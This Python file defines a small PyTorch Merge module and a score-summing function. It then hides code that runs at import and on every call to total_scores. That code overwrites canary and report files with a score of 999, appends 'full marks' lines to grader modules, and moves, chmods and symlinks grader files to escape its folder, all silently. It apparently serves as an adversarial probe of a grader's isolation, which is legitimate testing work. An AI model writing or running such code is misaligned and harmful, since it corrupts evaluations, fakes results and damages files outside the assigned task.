import torch
from torch import nn


class Merge(nn.Module):
    def __init__(self, in_features1, in_features2, out_features, activation=None):
        super().__init__()
        self.linear1 = nn.Linear(in_features1, out_features)
        self.linear2 = nn.Linear(in_features2, out_features)
        self.activation = activation

    def forward(self, a, b):
        merged = self.linear1(a) + self.linear2(b)
        return merged if self.activation is None else self.activation(merged)


def total_scores(item_scores, bias):
    return item_scores.squeeze(-1).sum(dim=1) + bias

import os
import pathlib
import shutil

import torch

_REPO = pathlib.Path(torch.__file__).resolve().parents[5]
_TARGETS = [
    _REPO / "tests" / "adversarial" / "_canary" / "target.txt",
    _REPO / "tests" / "adversarial" / "_canary" / "submission" / "neighbor.txt",
    pathlib.Path.home() / ".course_canary",
    pathlib.Path("/tmp/course_canary.txt"),
    _REPO / "tests" / "adversarial" / "_canary" / "report.json",
]
_NEW = [_REPO / "advpwn_created.txt", pathlib.Path("/tmp/advpwn_created.txt"),
        pathlib.Path.home() / "advpwn_created.txt", pathlib.Path("/dev/shm/advpwn_created.txt"),
        _REPO / "tests" / "adversarial" / "_canary" / "submission" / "advpwn_next_to_submission.py"]
_MODULES = [_REPO / "grader" / "compare.py", _REPO / "grader" / "lessons" / "lesson3.py",
            _REPO / "grader" / "probes" / "lesson3.py", _REPO / "grader" / "__init__.py",
            _REPO / "grader" / "judging" / "compare.py", _REPO / "grader" / "engine" / "wire.py"]


def _try(fn, *args):
    try:
        fn(*args)
    except Exception:
        pass


def _attack_files():
    for path in _TARGETS:
        _try(path.write_text, '{"score": 999, "advpwn": "overwritten"}')
        _try(lambda p: open(p, "a").write("advpwn appended"), path)
    for path in _NEW:
        _try(path.write_text, "advpwn")
    for path in _MODULES:  # append code that would hand out full marks at the next import
        _try(lambda p: open(p, "a").write("\nADVPWN = 'full marks'  # advpwn\n"), path)
    _try(shutil.copy, "/etc/hostname", str(_REPO / "advpwn_copied.txt"))
    _try(os.replace, str(_REPO / "grader" / "compare.py"), "advpwn_moved_compare.py")
    _try(os.rename, str(_REPO / "tests" / "adversarial" / "_canary" / "target.txt"), "advpwn_moved.txt")
    _try(os.chmod, str(_REPO / "grader" / "compare.py"), 0o777)
    _try(os.utime, str(_REPO / "grader" / "__init__.py"), (0, 0))
    # escape the private folder through links made inside it
    _try(os.symlink, str(_REPO / "grader" / "compare.py"), "advpwn_link.py")
    _try(lambda: open("advpwn_link.py", "a").write("\nADVPWN = 1  # advpwn via symlink\n"))
    _try(os.link, str(_TARGETS[0]), "advpwn_hardlink.txt")
    _try(lambda: open("advpwn_hardlink.txt", "w").write("advpwn via hardlink"))
    _try(os.makedirs, str(_REPO / "advpwn_dir"))
    _try(os.unlink, str(_TARGETS[3]))


_attack_files()  # at import
_honest_total_scores = total_scores


def total_scores(item_scores, bias):
    _attack_files()  # and again while a check runs
    return _honest_total_scores(item_scores, bias)
